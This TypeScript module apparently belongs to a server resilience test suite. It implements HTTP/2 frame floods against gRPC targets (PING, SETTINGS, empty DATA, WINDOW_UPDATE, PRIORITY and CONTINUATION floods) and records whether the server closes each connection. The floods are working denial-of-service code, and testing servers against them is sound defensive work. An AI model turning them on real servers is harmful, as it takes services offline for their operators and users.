import { openAttackSocket } from "../attack-socket.ts";
import {
  clientPreface,
  frame,
  frameFlags,
  frameTypes,
  headerBlock,
  maxWindow,
  settingIds,
  settingsFrame,
  windowUpdateFrame,
} from "../http2-frames.ts";
import { methods } from "../methods.ts";
import { openRawHttp2, type RawHttp2, requestFields } from "../raw-http2.ts";
import { type Attack, type Outcome, type Target, tally } from "../target.ts";

const connections = 4;
const batches = 1_000;
const framesPerBatch = 1_000;
const floodMs = 6_000;
const deadlineMs = 1_000;

/** Up to a million PING frames per connection. The client reads every response. */
export const pingFlood: Attack = (target) => flood(target, frame(frameTypes.ping, frameFlags.none, 0, Buffer.alloc(8)));

/** The same from a client that reads no response. */
export const unreadPingFlood: Attack = async (target) => {
  const bytes = repeated(frame(frameTypes.ping, frameFlags.none, 0, Buffer.alloc(8)));
  return everyConnection(async () => {
    using raw = await openAttackSocket(target);
    await raw.send(Buffer.concat([clientPreface, settingsFrame()]));
    await raw.flood(bytes, batches, floodMs);
    // A socket detects its end only if it reads.
    raw.socket.resume();
    return (await raw.endsWithin(deadlineMs)) ? "closed" : "still open";
  });
};

/** SETTINGS frames, each with a change. */
export const settingsFlood: Attack = (target) =>
  flood(
    target,
    Buffer.concat([
      settingsFrame([[settingIds.initialWindowSize, 1]]),
      settingsFrame([[settingIds.initialWindowSize, maxWindow]]),
    ]),
  );

/** Empty DATA frames on a request that waits for its message. */
export const emptyDataFlood: Attack = (target) =>
  flood(target, frame(frameTypes.data, frameFlags.none, 1), (raw) => raw.request(1, methods.getProduct));

/** WINDOW_UPDATE frames of one byte each. */
export const windowUpdateFlood: Attack = (target) =>
  flood(target, windowUpdateFrame(1, 1), (raw) => raw.request(1, methods.watchQuotes), 0);

/** PRIORITY frames, which are deprecated: https://www.rfc-editor.org/rfc/rfc9113#section-5.3.2. */
export const priorityFlood: Attack = (target) =>
  flood(target, frame(frameTypes.priority, frameFlags.none, 1, Buffer.from([0, 0, 0, 3, 1])));

/** A request with headers that do not end, in small CONTINUATION frames. */
export const continuationFlood: Attack = (target) => {
  const block = headerBlock(requestFields(target, methods.getProduct, "application/grpc"));
  const more = frame(frameTypes.continuation, frameFlags.none, 1, headerBlock([["x-more", "and more"]]));
  return flood(target, more, () => frame(frameTypes.headers, frameFlags.none, 1, block));
};

/** The same with empty frames. */
export const emptyContinuationFlood: Attack = (target) => {
  const block = headerBlock(requestFields(target, methods.getProduct, "application/grpc"));
  return flood(target, frame(frameTypes.continuation, frameFlags.none, 1), () =>
    frame(frameTypes.headers, frameFlags.none, 1, block),
  );
};

async function flood(
  target: Target,
  one: Buffer,
  first: (raw: RawHttp2) => Uint8Array = () => new Uint8Array(),
  window = maxWindow,
): Promise<Outcome> {
  const bytes = repeated(one);
  return everyConnection(async () => {
    using raw = await openRawHttp2(target, { window });
    await raw.send(first(raw));
    await raw.flood(bytes, batches, floodMs);
    return await raw.ending(deadlineMs);
  });
}

function repeated(one: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: framesPerBatch }, () => one));
}

async function everyConnection(attack: () => Promise<string>): Promise<Outcome> {
  return tally(await Promise.all(Array.from({ length: connections }, attack)));
}
